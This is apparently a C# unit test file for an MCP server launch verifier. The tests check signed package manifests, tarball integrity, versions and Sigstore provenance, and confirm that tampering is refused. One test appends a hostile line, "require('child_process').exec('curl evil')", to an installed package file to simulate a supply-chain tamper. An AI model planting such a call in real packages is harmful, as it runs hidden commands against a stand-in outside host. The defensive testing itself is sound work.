using System.Security.Cryptography;
using McpVanguard.Configuration;
using McpVanguard.Core.Trust;
using McpVanguard.Core.Trust.Manifests;
using McpVanguard.Integrity;

namespace McpVanguard.Tests.Trust.Manifests;

/// <summary>
/// The check before a launch: a good manifest verifies; an edited manifest, a foreign or missing signature, another
/// launch, and a package that is missing, of another version, another tarball or edited on disk are each refused with
/// the reason; keyless signatures and provenance go to the Sigstore verifier with the configured identity.
/// </summary>
public sealed class ServerLaunchVerifierTests : IDisposable
{
    private static readonly string[] Launch = ["npx", "-y", "@acme/weather-mcp"];

    private readonly FakeNpmInstall _npm = new();
    private readonly ECDsa _key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
    private readonly string _package;

    public ServerLaunchVerifierTests()
    {
        _package = _npm.Install(_npm.Project);
        File.WriteAllText(PublicKey, _key.ExportSubjectPublicKeyInfoPem());
    }

    public void Dispose()
    {
        _key.Dispose();
        _npm.Dispose();
    }

    private string ManifestPath => Path.Combine(_npm.Root, "weather.manifest.json");

    private string PublicKey => Path.Combine(_npm.Root, "team.pub");

    private ManifestSettings Settings => new(ManifestPath, PublicKey, null, "test");

    private ServerManifest Manifest(IReadOnlyList<string>? launch = null, ManifestProvenance? provenance = null) => new()
    {
        ServerId = "weather",
        Launch = launch ?? Launch,
        Package = new ManifestPackage("npm", FakeNpmInstall.Name, FakeNpmInstall.Version, FakeNpmInstall.Integrity, NpmPackageFiles.Digest(_package)),
        Provenance = provenance,
        Baseline = new PinFile { Servers = { ["npx -y @acme/weather-mcp | weather"] = new PinnedServer { Upstream = "npx -y @acme/weather-mcp" } } },
        Created = DateTimeOffset.UnixEpoch,
    };

    private void Write(ServerManifest manifest, ECDsa? signWith = null)
    {
        File.WriteAllBytes(ManifestPath, ServerManifestDocument.Serialize(manifest));
        ServerManifestDocument.Sign(ManifestPath, signWith ?? _key);
    }

    private LaunchVerification Verify(ManifestSettings? settings = null, IReadOnlyList<string>? launch = null, ISigstoreBundleVerifier? sigstore = null)
        => new ServerLaunchVerifier(new ArtifactSignatureVerifier(sigstore), sigstore, _npm.Environment).Verify("weather", launch ?? Launch, settings ?? Settings, requiredBy: null);

    [Fact]
    public void A_signed_manifest_of_the_installed_package_verifies_and_carries_its_baseline()
    {
        Write(Manifest());
        var result = Verify();
        Assert.True(result.Outcome == LaunchOutcome.Verified, result.Reason);
        Assert.Contains("@acme/weather-mcp@1.4.0 verified", result.Reason, StringComparison.Ordinal);
        Assert.Single(result.Manifest!.Baseline!.Servers);
    }

    [Fact]
    public void A_manifest_edited_after_signing_is_refused()
    {
        Write(Manifest());
        File.WriteAllText(ManifestPath, File.ReadAllText(ManifestPath).Replace("1.4.0", "1.4.1", StringComparison.Ordinal));
        AssertFails(Verify(), "changed after signing");
    }

    [Fact]
    public void A_baseline_changed_after_signing_is_refused()
    {
        Write(Manifest());
        File.WriteAllText(ManifestPath, File.ReadAllText(ManifestPath).Replace("| weather", "| weather2", StringComparison.Ordinal));
        AssertFails(Verify(), "changed after signing");
    }

    [Fact]
    public void A_manifest_signed_by_another_key_or_not_signed_is_refused()
    {
        using var other = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        Write(Manifest(), other);
        AssertFails(Verify(), "signed by another key");

        File.Delete(ServerManifestDocument.SignaturePath(ManifestPath));
        AssertFails(Verify(), "is not signed");
    }

    [Fact]
    public void A_manifest_with_nothing_to_check_its_signature_with_is_refused()
    {
        Write(Manifest());
        AssertFails(Verify(new ManifestSettings(ManifestPath, null, null, "test")), "nothing to check its signature with");
    }

    [Fact]
    public void A_manifest_of_another_launch_is_refused()
    {
        Write(Manifest());
        AssertFails(Verify(launch: ["npx", "-y", "@acme/weather-mcp", "--allow-all"]), "describes the launch");
    }

    [Fact]
    public void A_package_file_changed_after_installation_is_refused()
    {
        Write(Manifest());
        File.AppendAllText(Path.Combine(_package, "dist", "index.js"), "require('child_process').exec('curl evil');\n");
        AssertFails(Verify(), "differ from the manifest's");
    }

    [Fact]
    public void A_file_added_to_the_package_is_refused()
    {
        Write(Manifest());
        File.WriteAllText(Path.Combine(_package, "dist", "postinstall.js"), "1;\n");
        AssertFails(Verify(), "differ from the manifest's");
    }

    [Fact]
    public void Another_tarball_of_the_same_version_is_refused()
    {
        Write(Manifest());
        var lockFile = Path.Combine(_npm.Project, "node_modules", ".package-lock.json");
        File.WriteAllText(lockFile, File.ReadAllText(lockFile).Replace("gocH9q", "XXXXXX", StringComparison.Ordinal));
        AssertFails(Verify(), "another tarball");
    }

    [Fact]
    public void Another_version_is_refused()
    {
        Write(Manifest());
        File.WriteAllText(Path.Combine(_package, "package.json"), """{"name":"@acme/weather-mcp","version":"1.5.0"}""");
        AssertFails(Verify(), "the manifest pins 1.4.0");
    }

    [Fact]
    public void A_package_that_is_not_installed_is_refused_and_nothing_is_downloaded()
    {
        Write(Manifest());
        Directory.Delete(Path.Combine(_npm.Project, "node_modules"), recursive: true);
        AssertFails(Verify(), "is not installed where npx would find it");
    }

    [Fact]
    public void Without_a_manifest_an_npm_launch_is_refused_when_manifests_are_required_and_other_launches_are_not()
    {
        var verifier = new ServerLaunchVerifier(new ArtifactSignatureVerifier(null), null, _npm.Environment);
        AssertFails(verifier.Verify("weather", Launch, ManifestSettings.None, requiredBy: "profile:strict"), "has no manifest (trust.require_manifests is on, from profile:strict)");
        Assert.Equal(LaunchOutcome.NotChecked, verifier.Verify("py", ["python", "-m", "server"], ManifestSettings.None, requiredBy: "profile:strict").Outcome);
        Assert.Equal(LaunchOutcome.NotChecked, verifier.Verify("weather", Launch, ManifestSettings.None, requiredBy: null).Outcome);
    }

    [Fact]
    public void A_keyless_manifest_needs_a_configured_identity_and_is_judged_by_it()
    {
        File.WriteAllBytes(ManifestPath, ServerManifestDocument.Serialize(Manifest()));
        File.WriteAllText(ServerManifestDocument.SignaturePath(ManifestPath), """{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"certificate":{"rawBytes":"AA=="}}}""");
        var sigstore = new RecordingSigstoreVerifier(verified: true);

        AssertFails(Verify(sigstore: sigstore), "no signer identity and issuer are configured");
        Assert.Empty(sigstore.Calls);

        var signer = new KeylessSigner(null, "https://github\\.com/acme/.*", "https://token.actions.githubusercontent.com", "test");
        var result = Verify(new ManifestSettings(ManifestPath, PublicKey, signer, "test"), sigstore: sigstore);
        Assert.True(result.Outcome == LaunchOutcome.Verified, result.Reason);
        var (_, policy) = Assert.Single(sigstore.Calls);
        // The pinned key is for key-signed manifests; a certificate-signed one is judged by the identity alone.
        Assert.Equal(("https://github\\.com/acme/.*", "https://token.actions.githubusercontent.com", (string?)null), (policy.IdentityPattern, policy.Issuer, policy.PublicKeyPem));
    }

    [Fact]
    public void Provenance_is_verified_for_the_tarballs_sha512_with_the_manifests_builder_identity()
    {
        File.WriteAllText(Path.Combine(_npm.Root, "weather.provenance.json"), "{}");
        var github = new GitHubWorkflowClaims(Repository: "acme/weather-mcp", Ref: "refs/tags/v1.4.0");
        Write(Manifest(provenance: new ManifestProvenance("weather.provenance.json", "regex:https://github\\.com/acme/weather-mcp/.*", "https://token.actions.githubusercontent.com", github)));

        var good = new RecordingSigstoreVerifier(verified: true);
        Assert.True(Verify(sigstore: good).Outcome == LaunchOutcome.Verified);
        var (artifact, policy) = Assert.Single(good.Calls);
        Assert.Equal(Convert.FromBase64String(FakeNpmInstall.Integrity["sha512-".Length..]), artifact.Sha512);
        Assert.Equal(("https://github\\.com/acme/weather-mcp/.*", github), (policy.IdentityPattern, policy.GitHub));

        AssertFails(Verify(sigstore: new RecordingSigstoreVerifier(verified: false)), "the provenance of @acme/weather-mcp@1.4.0 does not verify: refused by the test verifier");
        File.Delete(Path.Combine(_npm.Root, "weather.provenance.json"));
        AssertFails(Verify(sigstore: good), "cannot be read");
    }

    private static void AssertFails(LaunchVerification result, string reason)
    {
        Assert.Equal(LaunchOutcome.Failed, result.Outcome);
        Assert.Contains(reason, result.Reason, StringComparison.Ordinal);
    }

    /// <summary>Stands in for the Sigstore library (Core does not reference it) and records what it was asked.</summary>
    private sealed class RecordingSigstoreVerifier(bool verified) : ISigstoreBundleVerifier
    {
        public List<(SigstoreArtifact Artifact, SigstorePolicy Policy)> Calls { get; } = [];

        public SigstoreVerification Verify(SigstoreArtifact artifact, string bundleJson, SigstorePolicy policy)
        {
            Calls.Add((artifact, policy));
            return verified ? new SigstoreVerification(true, "verified", "https://github.com/acme/weather-mcp/.github/workflows/release.yml@refs/tags/v1.4.0") : SigstoreVerification.Failed("refused by the test verifier");
        }
    }
}
